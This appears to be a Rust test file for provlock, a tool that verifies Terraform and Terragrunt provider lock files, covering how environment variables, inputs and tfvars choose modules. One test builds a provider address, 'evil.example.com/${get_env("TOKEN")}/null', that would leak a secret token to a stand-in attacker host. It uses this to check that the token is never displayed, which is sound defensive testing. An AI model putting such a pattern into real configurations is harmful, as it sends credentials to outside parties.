//! Units that depend on variables of the environment.

use provlock_test::{Output, TestEnvironment, str};

use super::generate;
use crate::lock::{lock_file, requires};

/// A unit whose source depends on a variable, with a block that generates `provider.tf` with these
/// contents.
fn chosen_by_a_variable(contents: &str) -> TestEnvironment {
    let mut environment = TestEnvironment::new();
    environment.set("STAGE", "prod");
    environment.set("TOKEN", "t0ken");
    let choice = "get_env(\"STAGE\") == \"prod\" ? \"../modules//app\" : \"../modules//none\"";
    let source = format!("terraform {{\n  source = {choice}\n}}\n");
    environment.write(
        "unit/terragrunt.hcl",
        source + &generate("provider", contents),
    );
    environment.write(
        "modules/app/main.tf",
        "resource \"tls_private_key\" \"a\" {}\n",
    );
    environment.write("unit/.terraform.lock.hcl", lock_file(&[]));
    environment
}

fn verify_verbosely(environment: &TestEnvironment) -> Output {
    environment.provlock(["verify", "--allow", "single-platform", "-r", "-v"])
}

#[test]
fn a_variable_of_the_environment_chooses_and_is_never_shown() {
    let provider = "provider \"null\" {\n  region = \"${get_env(\"TOKEN\")}\"\n}\n";
    let environment = chosen_by_a_variable(provider);
    verify_verbosely(&environment)
        .assert_lacks("t0ken")
        .matches(str![[r#"
exit code: 1
----- stdout -----
error[provider-not-locked]: hashicorp/tls is required, but not locked
 --> modules/app/main.tf:1:10
  |
1 | resource "tls_private_key" "a" {}
  |          ^^^^^^^^^^^^^^^^^ required here
  |
help: provlock -C unit lock

error[provider-not-locked]: hashicorp/null is required, but not locked
 --> unit/terragrunt.hcl:4:1
  |
4 | generate "provider" {
  | ^^^^^^^^ required here
  |
help: provlock -C unit lock

----- stderr -----
unit: dialect tofu (the lock file); checked 0 providers for no platform, because none is set
2 errors in modules/app/main.tf and unit/terragrunt.hcl
"#]]);
}

#[test]
fn a_variable_of_the_environment_is_not_shown_in_an_address() {
    let leak = requires("evil.example.com/${get_env(\"TOKEN\")}/null", "");
    let environment = chosen_by_a_variable(&leak);
    verify_verbosely(&environment)
        .assert_lacks("t0ken")
        .matches(str![[r#"
exit code: 0
----- stdout -----
warning[requirements-not-known]: the requirements of the unit in unit are not completely known
 --> unit/terragrunt.hcl:4:1
  |
4 | generate "provider" {
  | ^^^^^^^^ a variable of the environment is only compared, never shown
  |
  = the entries and constraints of the lock file are treated as required
help: terragrunt init -lockfile=readonly checks all of them

----- stderr -----
unit: dialect tofu (the lock file); checked 0 providers for no platform, because none is set
Not checked: platforms (select with -p), hashes against the registry (--online)
Not checked: the state (Terragrunt decides where the state is)
1 warning in unit/terragrunt.hcl
"#]]);
}

/// Terragrunt passes `inputs` as `TF_VAR_…`, so the default of a variable may not be its value.
#[test]
fn inputs_choose_modules_and_what_is_not_known_of_them_does_not() {
    let run = format!("{}{{run_cmd(\"vault\")}}", "$");
    let extra = |attribute: &str| {
        format!(
            "terraform {{\n  extra_arguments \"a\" {{\n    commands = [\"init\"]\n    {attribute}\n  }}\n}}\n"
        )
    };
    let generated = |path: &str, more: &str| {
        let existing = "if_exists = \"overwrite\"\n  if_disabled = \"skip\"";
        format!(
            "generate \"v\" {{\n  path = \"{path}\"\n  {existing}\n  contents = \"kind = 1\"\n  {more}\n}}\n"
        )
    };
    // What the unit says, the variable of the environment, and the provider of the module that is
    // called, if it is known.
    let cases = [
        (String::new(), None, Some("null")),
        ("inputs = { other = 1 }\n".to_owned(), None, Some("null")),
        ("inputs = { kind = \"b\" }\n".to_owned(), None, Some("tls")),
        (
            "inputs = { kind = \"b\" }\n".to_owned(),
            Some("a"),
            Some("null"),
        ),
        (format!("inputs = {{ kind = \"{run}\" }}\n"), None, None),
        ("inputs = { kind = [\"b\"] }\n".to_owned(), None, None),
        (format!("inputs = \"{run}\"\n"), None, None),
        (extra("arguments = [\"-var\", \"kind=b\"]"), Some("a"), None),
        (extra("required_var_files = [\"b.tfvars\"]"), None, None),
        (
            extra("arguments = [\"-lock-timeout=20m\"]"),
            None,
            Some("null"),
        ),
        (generated("terraform.tfvars", ""), None, None),
        (generated("./x.auto.tfvars.json", ""), Some("a"), None),
        (
            generated("x.auto.tfvars", "disable = true"),
            None,
            Some("null"),
        ),
        (generated("x.tfvars", ""), None, Some("null")),
    ];
    for (unit, variable, expected) in cases {
        let mut environment = TestEnvironment::new();
        if let Some(value) = variable {
            environment.set("TF_VAR_kind", value);
        }
        let call = format!(
            "module \"m\" {{\n  source = \"./m/{}{{var.kind}}\"\n}}\n",
            "$"
        );
        environment.write(
            "main.tf",
            format!("variable \"kind\" {{\n  default = \"a\"\n}}\n{call}"),
        );
        environment.write("m/a/main.tf", "resource \"null_resource\" \"x\" {}\n");
        environment.write("m/b/main.tf", "resource \"tls_private_key\" \"x\" {}\n");
        environment.write("terragrunt.hcl", &unit);
        environment.write_lock_file(lock_file(&[]));

        let output = environment.provlock(["verify", "--dialect", "tofu"]);

        let text = output.to_string();
        let required = ["null", "tls"]
            .into_iter()
            .find(|name| text.contains(&format!("hashicorp/{name} is required")));
        assert_eq!(required, expected, "{unit}: {text}");
        assert_eq!(
            text.contains("is not known: "),
            expected.is_none(),
            "{unit}: {text}"
        );
    }
}

/// Terragrunt copies the files of a local module, and the files of the unit over them.
#[test]
fn values_in_the_module_of_a_unit_are_not_passed_over() {
    for (files, expected) in [
        (&["module/x.auto.tfvars"][..], None),
        (
            &["module/terraform.tfvars", "unit/terraform.tfvars"],
            Some("tls"),
        ),
        (&["module/other.tfvars"], Some("null")),
    ] {
        let environment = TestEnvironment::new();
        let call = format!(
            "module \"m\" {{\n  source = \"./m/{}{{var.kind}}\"\n}}\n",
            "$"
        );
        environment.write(
            "module/main.tf",
            format!("variable \"kind\" {{\n  default = \"a\"\n}}\n{call}"),
        );
        environment.write(
            "module/m/a/main.tf",
            "resource \"null_resource\" \"x\" {}\n",
        );
        environment.write(
            "module/m/b/main.tf",
            "resource \"tls_private_key\" \"x\" {}\n",
        );
        environment.write(
            "unit/terragrunt.hcl",
            "terraform {\n  source = \"../module\"\n}\n",
        );
        environment.write("unit/.terraform.lock.hcl", lock_file(&[]));
        for file in files {
            environment.write(*file, "kind = \"b\"\n");
        }

        let text = environment
            .provlock(["verify", "--dialect", "tofu", "-r"])
            .to_string();

        let required = ["null", "tls"]
            .into_iter()
            .find(|name| text.contains(&format!("hashicorp/{name} is required")));
        assert_eq!(required, expected, "{files:?}: {text}");
        assert_eq!(
            text.contains("is not known: "),
            expected.is_none(),
            "{files:?}: {text}"
        );
    }
}
